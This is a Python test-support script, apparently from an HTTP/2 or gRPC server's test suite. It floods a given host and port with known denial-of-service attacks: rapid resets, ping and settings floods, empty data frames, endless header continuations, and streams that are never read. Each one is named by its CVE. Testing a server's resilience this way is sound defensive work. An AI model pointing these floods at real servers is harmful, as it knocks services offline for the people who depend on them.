"""An abusive client of one process: ``python -m tests.support.attacker KIND HOST PORT SECONDS``.

Prints as JSON how many frames or bytes it sent and how often the other side closed the connection.
"""

from __future__ import annotations

import json
import select
import socket
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass

from tests.support import frames
from tests.support.frames import frame
from tests.support.server import SERVICE

BATCH = 100
SLOW_READERS = 20
STREAMS = 100


@dataclass
class Count:
    """The result of an attack."""

    kind: str
    frames: int = 0
    bytes: int = 0
    connections: int = 0
    refused: int = 0


def rapid_resets() -> Iterator[tuple[bytes, int]]:
    """Calls that are cancelled at once (CVE-2023-44487)."""
    yield frames.PREFACE, 1
    stream = 1
    while stream < 2**30:
        batch = [
            frame(frames.HEADERS, frames.END_HEADERS, number, frames.HEAD) + frames.reset(number)
            for number in range(stream, stream + 2 * BATCH, 2)
        ]
        stream += 2 * BATCH
        yield b"".join(batch), 2 * BATCH


def _same(start: bytes, one: bytes) -> Iterator[tuple[bytes, int]]:
    yield start, 1
    batch = one * BATCH
    while True:
        yield batch, BATCH


def pings() -> Iterator[tuple[bytes, int]]:
    """Pings, each of which asks for an answer (CVE-2019-9512)."""
    return _same(frames.PREFACE, frame(frames.PING, payload=b"12345678"))


def settings() -> Iterator[tuple[bytes, int]]:
    """Settings, each of which asks for an acknowledgement (CVE-2019-9515)."""
    return _same(frames.PREFACE, frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535}))


def empty_data() -> Iterator[tuple[bytes, int]]:
    """Data frames without data, on a call that is open (CVE-2019-9518)."""
    return _same(frames.PREFACE + frames.CALL, frame(frames.DATA, 0, 1))


def continuations() -> Iterator[tuple[bytes, int]]:
    """Headers that never end (CVE-2024-27316 and its like)."""
    part = frame(frames.CONTINUATION, 0, 1, frames.block([("x", "v" * 20)]))
    return _same(frames.PREFACE + frame(frames.HEADERS, 0, 1, frames.HEAD), part)


FLOODS: dict[str, Callable[[], Iterator[tuple[bytes, int]]]] = {
    "rapid-resets": rapid_resets,
    "pings": pings,
    "settings": settings,
    "empty-data": empty_data,
    "continuations": continuations,
}


def flood(kind: str, address: tuple[str, int], end: float) -> Count:
    """Sends as much as the other side takes, reads its answers, and connects again after each end."""
    count = Count(kind)
    while time.monotonic() < end:
        try:
            with socket.create_connection(address, timeout=1) as connection:
                count.connections += 1
                connection.setblocking(False)
                _pour(connection, FLOODS[kind](), count, end)
        except OSError:
            count.refused += 1
    return count


def _pour(connection: socket.socket, source: Iterator[tuple[bytes, int]], count: Count, end: float) -> None:
    left = memoryview(b"")
    while time.monotonic() < end:
        readable, writable, _ = select.select([connection], [connection], [], 0.1)
        if readable and not connection.recv(65_536):
            count.refused += 1
            return
        if writable:
            if not left:
                batch, number = next(source)
                left = memoryview(batch)
                count.frames += number
            sent = connection.send(left)
            count.bytes += sent
            left = left[sent:]


def never_reads(address: tuple[str, int], end: float, *, window: int) -> Count:
    """Opens many endless answers and reads none: TCP stops them with the largest windows, HTTP/2 with none."""
    count = Count("never-reads")
    request = frames.message(json.dumps({"count": 1_000_000, "size": 10_000}).encode())
    start = frames.MAGIC + frames.settings({frames.INITIAL_WINDOW_SIZE: window})
    start += frames.window_update(0, frames.LARGEST_WINDOW - 65_535)
    head = frames.call_headers(f"/{SERVICE}/ServerStream")
    for number in range(1, 2 * STREAMS, 2):
        start += frame(frames.HEADERS, frames.END_HEADERS, number, head)
        start += frame(frames.DATA, frames.END_STREAM, number, request)
    connections = []
    for _ in range(SLOW_READERS):
        connection = socket.create_connection(address, timeout=5)
        connection.sendall(start)
        connections.append(connection)
        count.connections += 1
        count.bytes += len(start)
        count.frames += 2 * STREAMS
    time.sleep(max(0.0, end - time.monotonic()))
    for connection in connections:
        connection.close()
    return count


def attack(kind: str, address: tuple[str, int], seconds: float) -> Count:
    end = time.monotonic() + seconds
    if kind == "never-reads":
        return never_reads(address, end, window=frames.LARGEST_WINDOW)
    if kind == "closed-windows":
        return never_reads(address, end, window=0)
    return flood(kind, address, end)


KINDS = (*FLOODS, "never-reads", "closed-windows")

if __name__ == "__main__":
    print(json.dumps(asdict(attack(sys.argv[1], (sys.argv[2], int(sys.argv[3])), float(sys.argv[4])))))
